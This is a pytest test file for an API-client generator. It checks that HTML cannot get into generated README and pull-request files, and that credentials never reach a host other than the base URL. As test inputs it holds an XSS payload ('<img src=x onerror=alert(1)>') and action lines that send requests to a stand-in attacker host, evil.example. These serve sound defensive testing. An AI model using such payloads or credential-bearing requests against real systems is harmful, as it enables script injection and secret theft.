"""Sources that try to show markup, or to have credentials sent elsewhere."""

import json
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from tests.helpers.combinations import LAYOUTS
from tests.helpers.delivered import Bake

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
GOOD = "https://api.good.test/v1"
SECRET = "Zx81kQ77LmPw90aB"
HTML = ["<img src=x onerror=alert(1)>", "`\n\n<img src=x>\n\n`"]


def described(text: str) -> dict[str, Any]:
    """A document with a text wherever one may stand."""
    schema = {"type": "string", "enum": [text, "a"], "default": text, "title": text, "description": text}
    shaped = {"type": "string", "format": text, "pattern": text, "example": text}
    keyed = {"type": "object", "properties": {text: schema, "a": shaped}}
    media = {"application/json": {"schema": {**keyed, "properties": {"b": keyed, text: schema}}}}
    cookie, query = {"name": text, "in": "cookie", "required": True}, {"name": text, "in": "query"}
    parameters = [{"name": "q", "in": "query", "schema": schema, "description": text}, cookie, query]
    operation = {"summary": text, "description": text, "tags": [text], "parameters": parameters}
    operation |= {"requestBody": {"content": media}, "responses": {"200": {"content": media}}}
    operation["security"] = [{"key": []}, {text: []}]
    scheme = {"type": "apiKey", "in": "header", "name": text, "description": f"You get it from {text}"}
    document = {"openapi": "3.0.0", "info": {"title": text, "description": text}, "servers": [{"url": GOOD}]}
    document["components"] = {"securitySchemes": {"key": scheme}}
    return {**document, "paths": {"/items": {"post": operation}}}


@pytest.mark.parametrize("text", HTML, ids=ascii)
def test_no_text_is_html_in_the_readme_or_the_pull_request(bake: Bake, tmp_path: Path, text: str):
    path = tmp_path / "api.json"
    path.write_text(json.dumps(described(text)), encoding="utf-8")

    delivered = bake(name="Good", actions=str(path))

    for markdown in (delivered.read("README.md"), delivered.read("PULL_REQUEST.md")):
        tokens = [part for token in MARKDOWN.parse(markdown) for part in (token, *(token.children or []))]
        assert {"html_block", "html_inline"}.isdisjoint(token.type for token in tokens)


# Requests to another site than the base URL's carry no credentials, however these are sent.
CUSTOM = [
    "api_token",
    "api_key -> header X-Key, app -> query app",
    "api_key -> basic {api_key}:X",
    f"api_key -> token POST {GOOD}/token form {{**fields}}",
]
GITHUB = {"auth_type": "platform", "provider": "github"}
SIGNED = [{"auth_type": "custom", "auth_fields": fields} for fields in CUSTOM]
SIGNED += [GITHUB, {**GITHUB, "headers": "Authorization: token {access_token}"}]
SECRETS = dict.fromkeys(("api_token", "api_key", "app", "access_token"), SECRET)
FOREIGN: dict[str, dict[str, str]] = {"list_things": {}, "get_file": {}, "send_it": {"q": "x"}}
ACTIONS = """
def list_items(): ...
@unsigned
def list_files() -> "GET https://up.good.test:8443/files": ...
@unsigned
def list_things() -> "GET https://evil.example/things": ...
@unsigned
def get_file() -> "GET https://evil.example/file -> (file: File = answer)": ...
@unsigned
def send_it(q: str) -> "POST https://evil.example/q?q={q}": ...
"""


@pytest.mark.parametrize(("answers", "layout"), list(zip(SIGNED, LAYOUTS * 3, strict=True)))
async def test_no_credential_is_sent_to_another_site(bake, connect, api, answers, layout):
    delivered = bake(name="Good", actions=ACTIONS, base_url=GOOD, layout=layout, **answers)
    good = connect(SECRETS, delivered=delivered)
    api.answers({"access_token": SECRET, "items": []})

    printed = " ".join(delivered.printed.split())
    assert "is ready" not in printed
    assert "check these requests to another site" in printed
    assert all(f"{name} -> " in printed for name in FOREIGN)
    for action, inputs in FOREIGN.items():
        api.seen.clear()
        await good.run(action, inputs)
        assert api.request.path.startswith("/evil.example/")
        assert SECRET not in str(api.request)
        assert "Authorization" not in api.request.headers
    for action, line in (("list_items", "api.good.test/v1/items"), ("list_files", "up.good.test:8443/files")):
        await good.run(action, {})
        assert api.seen[-1].line.startswith(f"GET {line}")
        assert "basic" in str(answers) or SECRET in str(api.seen[-1])
